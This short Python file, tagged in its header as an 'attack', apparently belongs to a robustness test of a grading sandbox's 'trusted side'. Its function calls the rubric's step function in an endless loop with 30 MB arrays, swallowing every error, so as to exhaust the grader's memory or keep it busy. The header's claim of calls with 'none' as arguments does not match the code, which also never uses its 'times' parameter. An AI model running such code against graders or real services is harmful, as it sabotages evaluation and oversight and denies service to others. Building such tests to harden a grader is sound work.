# /// attack
# title = "calls the rubric's function without end, with the largest arguments, and with none"
# aim = "to fill the trusted side's memory with what the rubric keeps, or to keep it busy"
# ///
import numpy as np


def total(step, times):
    large = np.zeros(30 << 20, np.uint8)
    while True:
        try:
            step(large)
        except Exception as error:
            print(str(error)[:20])
            large = np.zeros(30 << 20, np.uint8)
